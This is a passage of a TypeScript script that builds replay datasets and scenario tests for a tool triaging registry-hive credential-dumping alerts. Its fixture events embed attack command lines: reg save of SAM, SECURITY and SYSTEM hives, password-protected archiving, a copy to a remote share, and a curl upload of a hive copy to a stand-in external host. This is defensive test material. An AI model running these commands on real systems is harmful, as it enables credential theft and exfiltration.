// Builds the bundled replay datasets: `data/<name>/` (the demo's examples) and the scenario suite's
// `test/scenarios/datasets/<name>/`. Real telemetry comes from ../shared/corpus (each event keeps its
// provenance under `hivewatch.provenance`); the rest are realistic constructions in Elastic Defend or
// Windows 4688 shape. The output is committed, so a fresh machine needs neither this script nor the corpus.
//
//   npx tsx data/build-datasets.ts
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { loadHiveDumpRule } from '../playbooks/hive-dump/rule.js';
import type { ScenarioExpectation as Expect } from '../test/scenarios/expectation.js';

type Doc = Record<string, any>;

const repo = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const corpusDir = resolve(repo, '../shared/corpus');
const RULE_ID = 'a7e7bfa3-088e-4f13-b29e-3986e0e756b8';
const RULE_NAME = 'Credential Acquisition via Registry Hive Dumping';
const Q318 = loadHiveDumpRule('318').query;
const Q317 = loadHiveDumpRule('317').query;

const sha = (s: string, n = 16) => createHash('sha256').update(s).digest('hex').slice(0, n);
const iso = (base: string, seconds: number) => new Date(Date.parse(base) + seconds * 1000).toISOString();

// ---- the real corpus -------------------------------------------------------------------------------

const PROVENANCE_KEYS = ['source', 'source_commit', 'source_format', 'label', 'label_upstream_latest', 'label_sigma_fd877b94', 'note', 'tags', 'synthesized_fields', 'original'];

/** A corpus record as ECS: provenance moved under `hivewatch.provenance` (`source` collides with ECS), an event.id added. */
function fromCorpus(record: Doc): Doc {
  const doc: Doc = {};
  for (const [k, v] of Object.entries(record)) if (!PROVENANCE_KEYS.includes(k)) doc[k] = v;
  doc.event = { ...doc.event, id: `rc-${sha(`${record.source}|${record['@timestamp']}|${record.event?.code}|${record.process?.command_line ?? ''}|${record.process?.pid ?? ''}|${record.file?.path ?? ''}`)}` };
  doc.hivewatch = { provenance: { source: record.source, source_commit: record.source_commit, source_format: record.source_format, tags: record.tags } };
  return doc;
}

const readJsonl = (file: string): Doc[] =>
  readFileSync(join(corpusDir, file), 'utf8')
    .split('\n')
    .filter((l) => l.trim())
    .map((l) => JSON.parse(l));

const corpus = readJsonl('real-events.jsonl').map(fromCorpus);
const context = readJsonl('real-context-events.jsonl').map(fromCorpus);
const onHost = (name: string) => (d: Doc) => d.host?.name === name;

// ---- constructions ---------------------------------------------------------------------------------

interface Host {
  id: string;
  name: string;
}
interface User {
  id: string;
  name: string;
  domain: string;
}
interface ProcSpec {
  ts: string;
  host: Host;
  user: User;
  entity?: string;
  pid: number;
  exe: string;
  cmd: string;
  args?: string[];
  parent: { entity?: string; pid: number; exe: string; cmd?: string };
  logon?: string;
  signer?: string | null;
  ofn?: string | null;
  wd?: string;
}

/** Splits like CommandLineToArgvW for the simple command lines we write (quotes group, no escapes). */
function argv(cmd: string): string[] {
  const out: string[] = [];
  for (const m of cmd.matchAll(/"([^"]*)"|(\S+)/g)) out.push(m[1] ?? m[2]!);
  return out;
}
const base = (p: string) => p.split('\\').pop()!;

/** An Elastic Defend process start. */
function defend(s: ProcSpec): Doc {
  const doc: Doc = {
    '@timestamp': s.ts,
    event: { kind: 'event', category: ['process'], type: ['start'], action: 'start', dataset: 'endpoint.events.process', module: 'endpoint', id: `ev-${sha(`${s.host.id}|${s.entity}|${s.ts}|${s.cmd}`)}` },
    host: { id: s.host.id, name: s.host.name, os: { type: 'windows', family: 'windows', name: 'Windows' } },
    user: { id: s.user.id, name: s.user.name, domain: s.user.domain },
    process: {
      entity_id: s.entity,
      pid: s.pid,
      start: s.ts,
      name: base(s.exe),
      executable: s.exe,
      command_line: s.cmd,
      args: s.args ?? argv(s.cmd),
      working_directory: s.wd ?? 'C:\\Windows\\system32\\',
      parent: { entity_id: s.parent.entity, pid: s.parent.pid, name: base(s.parent.exe), executable: s.parent.exe, ...(s.parent.cmd ? { command_line: s.parent.cmd, args: argv(s.parent.cmd) } : {}) },
      Ext: { session_info: { logon_type: s.logon ?? 'Interactive' } },
    },
  };
  doc.process.args_count = doc.process.args.length;
  if (s.signer !== null) doc.process.code_signature = { subject_name: s.signer ?? 'Microsoft Windows', trusted: true, exists: true, status: 'trusted' };
  if (s.ofn !== null) doc.process.pe = { original_file_name: s.ofn ?? (base(s.exe).toLowerCase() === 'reg.exe' ? 'reg.exe' : base(s.exe)) };
  return doc;
}

/** A Windows Security 4688 through the system integration: no entity ids, signer, original name or parent command line. */
function w4688(s: Omit<ProcSpec, 'entity' | 'logon' | 'signer' | 'ofn'>): Doc {
  return {
    '@timestamp': s.ts,
    event: { kind: 'event', category: ['process'], type: ['start'], action: 'created-process', code: '4688', module: 'system', dataset: 'system.security', provider: 'Microsoft-Windows-Security-Auditing', id: `ev-${sha(`${s.host.id}|${s.pid}|${s.ts}|${s.cmd}`)}` },
    host: { id: s.host.id, name: s.host.name, os: { type: 'windows', family: 'windows' } },
    user: { id: s.user.id, name: s.user.name, domain: s.user.domain },
    process: {
      pid: s.pid,
      name: base(s.exe),
      executable: s.exe,
      command_line: s.cmd,
      args: argv(s.cmd),
      parent: { pid: s.parent.pid, name: base(s.parent.exe), executable: s.parent.exe },
    },
    winlog: { channel: 'Security', event_id: '4688' },
  };
}

function fileEvent(ts: string, host: Host, proc: { entity?: string; pid: number; exe: string }, path: string, type = 'creation'): Doc {
  return {
    '@timestamp': ts,
    event: { kind: 'event', category: ['file'], type: [type], action: type, dataset: 'endpoint.events.file', id: `ev-${sha(`${host.id}|${proc.entity}|${ts}|${path}|${type}`)}` },
    host: { id: host.id, name: host.name, os: { type: 'windows' } },
    process: { entity_id: proc.entity, pid: proc.pid, executable: proc.exe, name: base(proc.exe) },
    file: { path, name: base(path), directory: path.slice(0, path.lastIndexOf('\\')) },
  };
}

function netEvent(ts: string, host: Host, proc: { entity?: string; pid: number; exe: string }, dest: string, port: number): Doc {
  return {
    '@timestamp': ts,
    event: { kind: 'event', category: ['network'], type: ['connection', 'start'], action: 'connection_attempted', dataset: 'endpoint.events.network', id: `ev-${sha(`${host.id}|${proc.entity}|${ts}|${dest}`)}` },
    host: { id: host.id, name: host.name, os: { type: 'windows' } },
    process: { entity_id: proc.entity, pid: proc.pid, executable: proc.exe, name: base(proc.exe) },
    destination: { ip: dest, port },
    network: { direction: 'egress', transport: 'tcp' },
  };
}

const CRED_ACCESS = [{ framework: 'MITRE ATT&CK', tactic: { id: 'TA0006', name: 'Credential Access', reference: 'https://attack.mitre.org/tactics/TA0006/' }, technique: [{ id: 'T1003', name: 'OS Credential Dumping' }] }];

/** The alert Kibana would write for a source event (nested, as a rule action sends it). */
function alertOf(event: Doc, opts: { delay?: number; query?: string; version?: number; uuid?: string } = {}): Doc {
  const alert: Doc = structuredClone(event);
  delete alert.hivewatch;
  alert['@timestamp'] = iso(event['@timestamp'], opts.delay ?? 45);
  alert.event = { ...alert.event, kind: 'signal' };
  alert.kibana = {
    alert: {
      uuid: opts.uuid ?? sha(`alert|${event.event.id}`, 64),
      status: 'active',
      workflow_status: 'open',
      original_time: event['@timestamp'],
      severity: 'high',
      risk_score: 73,
      reason: `process event with process ${event.process?.name}, by ${event.user?.name ?? '?'} on ${event.host.name} created high alert ${RULE_NAME}.`,
      ancestors: [{ id: event.event.id, index: '.ds-logs-endpoint.events.process-default-2026.11.01-000001', type: 'event', depth: 0 }],
      depth: 1,
      rule: {
        uuid: '0b6f6a4e-5c7d-4f3b-9a55-hivewatch-demo',
        rule_id: RULE_ID,
        name: RULE_NAME,
        type: 'eql',
        version: opts.version ?? 318,
        threat: CRED_ACCESS,
        parameters: { language: 'eql', query: opts.query ?? Q318, rule_id: RULE_ID },
      },
    },
  };
  return alert;
}

/** An alert of another rule (related-alert pivots). */
function otherAlert(ts: string, host: Host, user: User | null, name: string, tactic: { id: string; name: string }): Doc {
  return {
    '@timestamp': ts,
    event: { kind: 'signal', id: `ev-${sha(`${host.id}|${ts}|${name}`)}` },
    host: { id: host.id, name: host.name },
    ...(user ? { user: { id: user.id, name: user.name, domain: user.domain } } : {}),
    kibana: { alert: { uuid: sha(`other|${host.id}|${ts}|${name}`, 64), original_time: iso(ts, -30), rule: { rule_id: `rule-${sha(name, 8)}`, name, threat: [{ framework: 'MITRE ATT&CK', tactic }] } } },
  };
}

// ---- writing ---------------------------------------------------------------------------------------

interface Scenario {
  name: string;
  title: string;
  covers: string[];
  events: Doc[];
  assets: Doc[];
  workflows?: unknown[];
  alert: Doc;
  /** More alerts triaged against the same dataset (alert storms). */
  alerts?: Doc[];
  expect: Expect;
  demo?: string;
}

const asset = (host: Host, role: string, criticality: string, isolation: boolean, tags: string[] = []) => ({
  'host.id': host.id,
  'host.name': host.name,
  role,
  criticality,
  isolation_allowed: isolation,
  owner: 'it-ops',
  tags,
});

function write(dir: string, s: Scenario) {
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
  const sorted = [...s.events].sort((a, b) => String(a['@timestamp']).localeCompare(String(b['@timestamp'])));
  writeFileSync(join(dir, 'events.ndjson'), sorted.map((d) => JSON.stringify(d)).join('\n') + '\n');
  writeFileSync(join(dir, 'assets.json'), JSON.stringify(s.assets, null, 2) + '\n');
  if (s.workflows) writeFileSync(join(dir, 'workflows.json'), JSON.stringify(s.workflows, null, 2) + '\n');
  writeFileSync(join(dir, 'alert.json'), JSON.stringify(s.alert, null, 2) + '\n');
  if (s.alerts) writeFileSync(join(dir, 'alerts.ndjson'), s.alerts.map((a) => JSON.stringify(a)).join('\n') + '\n');
  writeFileSync(join(dir, 'scenario.json'), JSON.stringify({ name: s.name, title: s.title, covers: s.covers, expect: s.expect }, null, 2) + '\n');
}

const scenarios: Scenario[] = [];

// ---- real: Panache (EVTX-ATTACK-SAMPLES), staging under the wrapper's grandparent ----------------

const MSEDGE: Host = { id: '572ca42f-066f-5545-81c7-c6a1e9491ffe', name: 'MSEDGEWIN10' };
const panacheEvents = corpus.filter(onHost('MSEDGEWIN10'));
const v318 = loadHiveDumpRule('318');
const panacheAlerts = panacheEvents.filter((e) => v318.matches(e)).map((e) => alertOf(e));
const panacheById = (suffix: string) => panacheEvents.find((e) => String(e.process?.entity_id ?? '').endsWith(suffix))!;
const panacheAssets = [asset(MSEDGE, 'workstation', 'medium', true, ['lab'])];

scenarios.push({
  name: 'panache-security-wrapper-grandparent',
  title: 'Real Atomic Red Team run: reg save HKLM\\Security under cmd /c, staging under the grandparent PowerShell',
  covers: ['real telemetry', 'staging under a wrapper grandparent', 'missing network telemetry'],
  events: [...panacheEvents, ...panacheAlerts],
  assets: panacheAssets,
  alert: alertOf(panacheById('010e4913100}')),
  expect: {
    verified: true,
    disposition: 'malicious',
    hives: ['SECURITY'],
    hostRole: 'workstation',
    destinations: ['system_drive_other'],
    factors: ['hive.security', 'lineage.wrapper_expanded', 'lineage.interactive_shell', 'staging.system_export', 'staging.companion_export', 'staging.archiving', 'staging.transfer', 'staging.deletion', 'related.credential_access'],
    plan: ['preserve_evidence', 'limit_outbound', 'isolate_host', 'remove_artifacts'],
    unresolved: ['no network telemetry', 'Sysmon service SID'],
  },
  demo: 'panache',
});

scenarios.push({
  name: 'panache-sam-credential-tools',
  title: 'Real Atomic Red Team run, block 2: reg save HKLM\\sam next to gsecdump, wce, procdump, ntdsutil and shadow-copy copies',
  covers: ['real telemetry', 'staging under a wrapper grandparent', 'alternative dumping'],
  events: [...panacheEvents, ...panacheAlerts],
  assets: panacheAssets,
  alert: alertOf(panacheById('010c7984a00}')),
  expect: {
    verified: true,
    disposition: 'malicious',
    hives: ['SAM'],
    hostRole: 'workstation',
    factors: ['hive.sam', 'lineage.wrapper_expanded', 'staging.system_export', 'staging.companion_export', 'staging.alternate_dump', 'staging.credential_tool'],
    plan: ['preserve_evidence', 'limit_outbound', 'isolate_host', 'remove_artifacts'],
    unresolved: ['no network telemetry'],
  },
});

// ---- real: Empire (Security-Datasets), Sysmon without a pid, and the same execution as 4688 --------

const WS5: Host = { id: '78d29d18-e316-5aab-846b-a6a319b2acfb', name: 'WORKSTATION5' };
const empireEvents = [...corpus, ...context].filter((e) => e.host?.id === WS5.id && String(e['@timestamp']).startsWith('2020-09-22'));
const empireSysmon = empireEvents.find((e) => e.event.code === '1' && e.process?.name === 'reg.exe')!;
const empire4688 = empireEvents.find((e) => e.event.code === '4688' && e.process?.name === 'reg.exe')!;
const ws5Assets = [asset(WS5, 'workstation', 'medium', true)];

scenarios.push({
  name: 'empire-sysmon-encoded-powershell',
  title: 'Real Empire agent: encoded PowerShell runs reg save HKLM\\sam into System32 (Sysmon, no pid)',
  covers: ['real telemetry', 'script host / encoded PowerShell lineage', 'deceptive destination'],
  events: [...empireEvents, alertOf(empireSysmon), alertOf(empire4688)],
  assets: ws5Assets,
  alert: alertOf(empireSysmon),
  expect: {
    verified: true,
    disposition: 'malicious',
    hives: ['SAM'],
    hostRole: 'workstation',
    destinations: ['deceptive_name'],
    factors: ['hive.sam', 'destination.deceptive_name', 'lineage.encoded_powershell'],
    plan: ['preserve_evidence', 'limit_outbound', 'isolate_host', 'terminate_process', 'remove_artifacts'],
    unresolved: ['no network telemetry'],
  },
  demo: 'empire',
});

scenarios.push({
  name: 'empire-4688-no-entity-ids',
  title: 'Real Empire execution as Windows 4688: no entity ids, found by host + pid + start time',
  covers: ['real telemetry', 'Windows 4688 without entity ids'],
  events: [...empireEvents, alertOf(empireSysmon), alertOf(empire4688)],
  assets: ws5Assets,
  alert: alertOf(empire4688),
  expect: {
    verified: true,
    disposition: 'malicious',
    hives: ['SAM'],
    hostRole: 'workstation',
    factors: ['hive.sam', 'lineage.interactive_shell'],
    plan: ['preserve_evidence', 'limit_outbound', 'isolate_host', 'remove_artifacts'],
    unresolved: ['no network telemetry', 'logon type unknown'],
  },
});

// ---- real: DC01 (Security-Datasets): SYSTEM saved after a shadow copy on a domain controller --------

const DC01: Host = { id: '20ddbeb4-8399-50e5-a2fb-96cc30ee5e3c', name: 'DC01.pandalab.com' };
const dcEvents = [...corpus, ...context].filter((e) => e.host?.id === DC01.id);
const dcSystem = dcEvents.find((e) => e.event.code === '1' && e.process?.name === 'reg.exe')!;
scenarios.push({
  name: 'dc01-system-after-shadow-copy',
  title: 'Real domain controller: vssadmin create shadow, then reg save HKLM\\SYSTEM to Windows\\Temp; the inventory forbids isolation',
  covers: ['real telemetry', 'critical host whose role forbids isolation', 'alternative dumping'],
  events: [...dcEvents, alertOf(dcSystem)],
  assets: [asset(DC01, 'domain_controller', 'critical', false, ['tier0'])],
  alert: alertOf(dcSystem),
  expect: {
    verified: true,
    disposition: 'malicious',
    hives: ['SYSTEM'],
    hostRole: 'domain_controller',
    destinations: ['temp'],
    factors: ['hive.system_only', 'destination.temp', 'lineage.interactive_shell', 'staging.alternate_dump', 'host.privileged_role', 'host.critical'],
    absentFactors: ['hive.sam'],
    plan: ['preserve_evidence', 'limit_outbound', 'remove_artifacts'],
    unresolved: ['forbids isolating'],
  },
  demo: 'dc01-shadow-copy',
});

// ---- forged alerts -----------------------------------------------------------------------------------

const psexecReg = corpus.find((e) => e.event.code === '1' && e.process?.name === 'reg.exe' && /policy\\secrets/i.test(e.process.command_line))!;
const WS5B: Host = { id: psexecReg.host.id, name: psexecReg.host.name };
const ws5Oct = corpus.filter((e) => e.host?.id === WS5B.id && String(e['@timestamp']).startsWith('2020-10-19'));
{
  // The real PsExec run saved HKLM\security\policy\secrets (a subkey the rule does not match). The forged
  // alert claims HKLM\security; the source event, fetched by its entity id, does not match the rule.
  const forged = alertOf(psexecReg);
  forged.process.command_line = forged.process.command_line.replace(/\\policy\\secrets/i, '');
  forged.process.args = forged.process.args.map((a: string) => a.replace(/\\policy\\secrets/i, ''));
  scenarios.push({
    name: 'forged-edited-args',
    title: 'Forged alert: a real PsExec secrets-subkey save, edited to claim HKLM\\security',
    covers: ['forged alerts', 'real telemetry'],
    events: ws5Oct,
    assets: [asset(WS5B, 'workstation', 'medium', true)],
    alert: forged,
    expect: { verified: false, disposition: 'unverified', hives: [], hostRole: 'workstation', factors: [], plan: ['preserve_evidence'], unresolved: ['does not match rule'] },
  });
}
{
  const ghost = alertOf(empireSysmon);
  ghost.process.entity_id = '{b34bc01c-0000-0000-0000-00000000dead}';
  ghost.kibana.alert.uuid = sha('ghost-alert', 64);
  scenarios.push({
    name: 'forged-no-source-event',
    title: 'Forged alert: a well-formed reg save HKLM\\sam alert whose process never ran on the host',
    covers: ['forged alerts'],
    events: empireEvents,
    assets: ws5Assets,
    alert: ghost,
    expect: { verified: false, disposition: 'unverified', hives: [], hostRole: 'workstation', factors: [], plan: ['preserve_evidence'], unresolved: ['source event not found'] },
  });
}

// ---- the recognised backup workflow and its variants ---------------------------------------------

const BK: Host = { id: 'c1d2e3f4-0000-4000-8000-00000000b001', name: 'bk-node-07' };
const SVC: User = { id: 'S-1-5-21-3623811015-3361044348-30300820-1601', name: 'svc_hivebackup', domain: 'CORP' };
const ADMIN: User = { id: 'S-1-5-21-3623811015-3361044348-30300820-1104', name: 'jdoe', domain: 'CORP' };
const AGENT = 'C:\\Program Files\\Contoso\\HiveGuard\\HiveGuardAgent.exe';
const AGENT_CMD = `"${AGENT}" --job nightly-hives --target D:\\HiveBackups`;

interface BackupOpts {
  nights: number;
  network: boolean;
  user?: User;
  parentCmd?: string;
  logon?: string;
  extra?: (ts: string, parent: { entity: string; pid: number }) => Doc[];
}

/** A nightly job: the agent saves SAM, SECURITY and SYSTEM to D:\HiveBackups; the last night is the one triaged. */
function backupNights(o: BackupOpts): { events: Doc[]; alert: Doc } {
  const events: Doc[] = [];
  let last: Doc | null = null;
  for (let n = 0; n < o.nights; n++) {
    const day = `2026-11-${String(14 + n).padStart(2, '0')}`;
    const t0 = `${day}T01:30:00.000Z`;
    const final = n === o.nights - 1;
    const user = final && o.user ? o.user : SVC;
    const parent = { entity: `agent-${day}`, pid: 5100 + n };
    const parentCmd = final && o.parentCmd ? o.parentCmd : AGENT_CMD;
    events.push(defend({ ts: iso(t0, -5), host: BK, user, entity: parent.entity, pid: parent.pid, exe: AGENT, cmd: parentCmd, parent: { entity: 'svcs-1', pid: 700, exe: 'C:\\Windows\\System32\\services.exe' }, logon: 'Service', signer: 'Contoso Ltd', ofn: 'HiveGuardAgent.exe', wd: 'C:\\Program Files\\Contoso\\HiveGuard\\' }));
    ['sam', 'security', 'system'].forEach((hive, i) => {
      const ts = iso(t0, i * 3);
      const entity = `reg-${day}-${hive}`;
      const pid = 6100 + n * 10 + i;
      const out = `D:\\HiveBackups\\${hive}_${day.replace(/-/g, '')}.hiv`;
      const ev = defend({ ts, host: BK, user, entity, pid, exe: 'C:\\Windows\\System32\\reg.exe', cmd: `reg.exe save hklm\\${hive} ${out} /y`, parent: { entity: parent.entity, pid: parent.pid, exe: AGENT, cmd: parentCmd }, logon: final && o.logon ? o.logon : 'Service' });
      events.push(ev, fileEvent(iso(ts, 1), BK, { entity, pid, exe: 'C:\\Windows\\System32\\reg.exe' }, out));
      if (hive !== 'system') {
        const alert = alertOf(ev);
        events.push(alert);
        if (final && hive === 'sam') last = alert;
      }
    });
    if (o.network) events.push(netEvent(iso(t0, 30), BK, { ...parent, exe: AGENT }, '10.20.0.15', 443));
    if (o.extra && final) events.push(...o.extra(t0, parent));
  }
  return { events, alert: last! };
}

const backupWorkflows = ['sam', 'security', 'system'].map((hive) => ({
  name: `HiveGuard nightly ${hive.toUpperCase()} backup on bk-node-07`,
  'process.executable': 'C:\\Windows\\System32\\reg.exe',
  'process.code_signature.subject_name': 'Microsoft Windows',
  'process.parent.command_line': AGENT_CMD,
  'process.command_line': `reg.exe save hklm\\${hive} D:\\HiveBackups\\${hive}_????????.hiv /y`,
  'user.id': SVC.id,
  'host.id': BK.id,
}));
const bkAssets = [asset(BK, 'backup_node', 'high', false, ['backup'])];

{
  const { events, alert } = backupNights({ nights: 5, network: true });
  scenarios.push({
    name: 'backup-recognised-workflow',
    title: 'A recognised, recurring backup workflow (4 prior nights) with complete telemetry closes as benign',
    covers: ['recognised recurring backup workflow -> benign'],
    events,
    assets: bkAssets,
    workflows: backupWorkflows,
    alert,
    expect: {
      verified: true,
      disposition: 'benign',
      hives: ['SAM'],
      hostRole: 'backup_node',
      destinations: ['removable_or_other_drive'],
      factors: ['hive.sam', 'workflow.recognised', 'host.privileged_role'],
      absentFactors: ['workflow.contradiction', 'staging.transfer'],
      plan: ['reverse_containment'],
    },
    demo: 'backup-benign',
  });
}
{
  const { events, alert } = backupNights({ nights: 5, network: true, user: ADMIN });
  scenarios.push({
    name: 'backup-workflow-other-user',
    title: 'The same workflow, but the last night ran under an administrator instead of the backup service account',
    covers: ['same workflow with one contradicting dimension', 'unexpected user (history-based)'],
    events,
    assets: bkAssets,
    workflows: backupWorkflows,
    alert,
    expect: {
      verified: true,
      // The administrator never appeared on the backup node in four nights of alerts of this rule: besides the
      // workflow's contradicted user.id, that first appearance is the guide's "unexpected user" escalation.
      disposition: 'malicious',
      hives: ['SAM'],
      hostRole: 'backup_node',
      factors: ['workflow.contradiction', 'user.unexpected', 'user.unseen_on_host'],
      absentFactors: ['workflow.recognised'],
      plan: ['preserve_evidence', 'limit_outbound', 'disable_account', 'remove_artifacts'],
    },
  });
}
{
  const { events, alert } = backupNights({ nights: 2, network: true });
  scenarios.push({
    name: 'backup-workflow-too-new',
    title: 'The recognised workflow seen in only one prior alert: it does not recur often enough to close the case',
    covers: ['workflow recurrence below the minimum'],
    events,
    assets: bkAssets,
    workflows: backupWorkflows,
    alert,
    expect: {
      verified: true,
      disposition: 'suspicious',
      hives: ['SAM'],
      hostRole: 'backup_node',
      factors: ['hive.sam'],
      absentFactors: ['workflow.recognised', 'workflow.contradiction'],
      plan: ['preserve_evidence', 'limit_outbound'],
      unresolved: ['recurs in only 1 prior alert'],
    },
  });
}
{
  const { events, alert } = backupNights({ nights: 5, network: false });
  scenarios.push({
    name: 'backup-workflow-no-network-telemetry',
    title: 'The recognised workflow on a host whose network telemetry is missing: unresolved, never benign',
    covers: ['missing network telemetry'],
    events,
    assets: bkAssets,
    workflows: backupWorkflows,
    alert,
    expect: {
      verified: true,
      disposition: 'suspicious',
      hives: ['SAM'],
      hostRole: 'backup_node',
      factors: ['hive.sam'],
      absentFactors: ['workflow.recognised'],
      plan: ['preserve_evidence', 'limit_outbound'],
      unresolved: ['no network telemetry'],
    },
  });
}
{
  const { events, alert } = backupNights({ nights: 5, network: true });
  scenarios.push({
    name: 'backup-too-broad-exception',
    title: 'An exception on reg.exe and the host alone is refused; without it the export stays open',
    covers: ['too-broad exceptions refused', 'candidate exceptions offered'],
    events,
    assets: bkAssets,
    workflows: [{ name: 'reg on the backup node', 'process.name': 'reg.exe', 'host.id': BK.id }],
    alert,
    expect: {
      verified: true,
      disposition: 'malicious',
      hives: ['SAM'],
      hostRole: 'backup_node',
      factors: ['hive.sam', 'destination.removable_or_other_drive', 'host.privileged_role'],
      absentFactors: ['workflow.recognised'],
      plan: ['preserve_evidence', 'limit_outbound', 'remove_artifacts'],
      candidateExceptions: 2,
      workflowError: 'HW_ERR_WORKFLOW_TOO_BROAD',
    },
  });
}
{
  const { events, alert } = backupNights({
    nights: 5,
    network: true,
    extra: (t0, parent) => {
      const ts = iso(t0, 20);
      return [
        defend({ ts, host: BK, user: SVC, entity: 'bk-curl', pid: 7001, exe: 'C:\\Windows\\System32\\curl.exe', cmd: 'curl.exe -T D:\\HiveBackups\\sam_20261118.hiv https://files.example.net/u/', parent: { entity: parent.entity, pid: parent.pid, exe: AGENT, cmd: AGENT_CMD }, logon: 'Service' }),
        netEvent(iso(ts, 1), BK, { entity: 'bk-curl', pid: 7001, exe: 'C:\\Windows\\System32\\curl.exe' }, '203.0.113.50', 443),
      ];
    },
  });
  scenarios.push({
    name: 'backup-workflow-with-upload',
    title: 'The recognised workflow, but the same parent also uploads the SAM copy off-host',
    covers: ['same workflow with one contradicting dimension', 'transfer'],
    events,
    assets: bkAssets,
    workflows: backupWorkflows,
    alert,
    expect: {
      verified: true,
      disposition: 'malicious',
      hives: ['SAM'],
      hostRole: 'backup_node',
      factors: ['hive.sam', 'staging.transfer'],
      absentFactors: ['workflow.recognised'],
      unresolved: ['other evidence contradicts it'],
      plan: ['preserve_evidence', 'limit_outbound', 'remove_artifacts'],
    },
  });
}

// ---- Windows 4688 only: no entity ids, pid reuse -------------------------------------------------

{
  const H: Host = { id: 'a9b8c7d6-0000-4000-8000-0000000004e8', name: 'fin-wks-112' };
  const U: User = { id: 'S-1-5-21-1004336348-1177238915-682003330-1112', name: 'mlopez', domain: 'CORP' };
  const T = '2026-11-19T15:12:40.000Z';
  const CMD = 'C:\\Windows\\System32\\cmd.exe';
  const events = [
    // pid 4242 held by another process 70 s earlier: the lookup by pid + start time must not take it.
    w4688({ ts: iso(T, -70), host: H, user: U, pid: 4242, exe: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', parent: { pid: 2990, exe: 'C:\\Windows\\explorer.exe' } }),
    w4688({ ts: iso(T, -40), host: H, user: U, pid: 3000, exe: CMD, cmd: `"${CMD}" `, parent: { pid: 2990, exe: 'C:\\Windows\\explorer.exe' } }),
    w4688({ ts: T, host: H, user: U, pid: 4242, exe: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg save HKLM\\SAM C:\\Users\\Public\\s.dat /y', parent: { pid: 3000, exe: CMD } }),
    w4688({ ts: iso(T, 6), host: H, user: U, pid: 4250, exe: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg save HKLM\\SYSTEM C:\\Users\\Public\\y.dat /y', parent: { pid: 3000, exe: CMD } }),
    w4688({ ts: iso(T, 25), host: H, user: U, pid: 4266, exe: 'C:\\Program Files\\7-Zip\\7z.exe', cmd: '"C:\\Program Files\\7-Zip\\7z.exe" a -pinfected C:\\Users\\Public\\d.7z C:\\Users\\Public\\s.dat C:\\Users\\Public\\y.dat', parent: { pid: 3000, exe: CMD } }),
    w4688({ ts: iso(T, 50), host: H, user: U, pid: 4270, exe: CMD, cmd: `${CMD} /c copy C:\\Users\\Public\\d.7z \\\\10.14.2.9\\scratch$\\d.7z`, parent: { pid: 3000, exe: CMD } }),
    // Hours later pid 3000 belongs to an updater; its child must not count as the attacker's staging.
    w4688({ ts: iso(T, 3 * 3600), host: H, user: U, pid: 3000, exe: 'C:\\Program Files\\Updater\\upd.exe', cmd: '"C:\\Program Files\\Updater\\upd.exe" /silent', parent: { pid: 700, exe: 'C:\\Windows\\System32\\services.exe' } }),
    w4688({ ts: iso(T, 3 * 3600 + 5), host: H, user: U, pid: 5120, exe: 'C:\\Windows\\System32\\curl.exe', cmd: 'curl.exe -o C:\\ProgramData\\upd.msi https://updates.example.com/upd.msi', parent: { pid: 3000, exe: 'C:\\Program Files\\Updater\\upd.exe' } }),
  ];
  const source = events[2]!;
  scenarios.push({
    name: 'w4688-pid-reuse',
    title: 'Windows 4688 only: no entity ids, the reg.exe pid and the parent pid are both reused',
    covers: ['Windows 4688 without entity ids, including pid reuse', 'missing network telemetry'],
    events: [...events, alertOf(source)],
    assets: [asset(H, 'workstation', 'medium', true)],
    alert: alertOf(source),
    expect: {
      verified: true,
      disposition: 'malicious',
      hives: ['SAM'],
      hostRole: 'workstation',
      destinations: ['public_profile', 'deceptive_name'],
      factors: ['hive.sam', 'destination.public_profile', 'lineage.interactive_shell', 'staging.system_export', 'staging.archiving', 'staging.copy_to_share_or_removable'],
      absentFactors: ['staging.transfer'],
      plan: ['preserve_evidence', 'restrict_share', 'limit_outbound', 'isolate_host', 'remove_artifacts'],
      unresolved: ['no network telemetry', 'logon type unknown'],
    },
  });
}

{
  // 4688 only, and every command behind its own `cmd.exe /c`: the staging sits under the grandparent, found
  // by the grandparent's pid (no entity ids anywhere).
  const H: Host = { id: '0c4688aa-0000-4000-8000-0000000000w2', name: 'acct-wks-019' };
  const U: User = { id: 'S-1-5-21-1004336348-1177238915-682003330-1310', name: 'bkeller', domain: 'CORP' };
  const T = '2026-11-20T18:02:10.000Z';
  const CMD = 'C:\\Windows\\System32\\cmd.exe';
  const WS = 'C:\\Windows\\System32\\wscript.exe';
  const events = [
    w4688({ ts: iso(T, -30), host: H, user: U, pid: 900, exe: WS, cmd: `"${WS}" C:\\Users\\bkeller\\AppData\\Roaming\\inv.vbs`, parent: { pid: 640, exe: 'C:\\Windows\\explorer.exe' } }),
    w4688({ ts: iso(T, -1), host: H, user: U, pid: 1000, exe: CMD, cmd: `${CMD} /c reg save HKLM\\SECURITY C:\\Windows\\Temp\\sec.log /y`, parent: { pid: 900, exe: WS } }),
    w4688({ ts: T, host: H, user: U, pid: 1010, exe: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg save HKLM\\SECURITY C:\\Windows\\Temp\\sec.log /y', parent: { pid: 1000, exe: CMD } }),
    w4688({ ts: iso(T, 4), host: H, user: U, pid: 1020, exe: CMD, cmd: `${CMD} /c reg save HKLM\\SYSTEM C:\\Windows\\Temp\\sys.log /y`, parent: { pid: 900, exe: WS } }),
    w4688({ ts: iso(T, 5), host: H, user: U, pid: 1030, exe: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg save HKLM\\SYSTEM C:\\Windows\\Temp\\sys.log /y', parent: { pid: 1020, exe: CMD } }),
    w4688({ ts: iso(T, 12), host: H, user: U, pid: 1040, exe: CMD, cmd: `${CMD} /c makecab C:\\Windows\\Temp\\sec.log C:\\Windows\\Temp\\s1.cab`, parent: { pid: 900, exe: WS } }),
    w4688({ ts: iso(T, 20), host: H, user: U, pid: 1050, exe: CMD, cmd: `${CMD} /c del C:\\Windows\\Temp\\sec.log C:\\Windows\\Temp\\sys.log`, parent: { pid: 900, exe: WS } }),
  ];
  const source = events[2]!;
  scenarios.push({
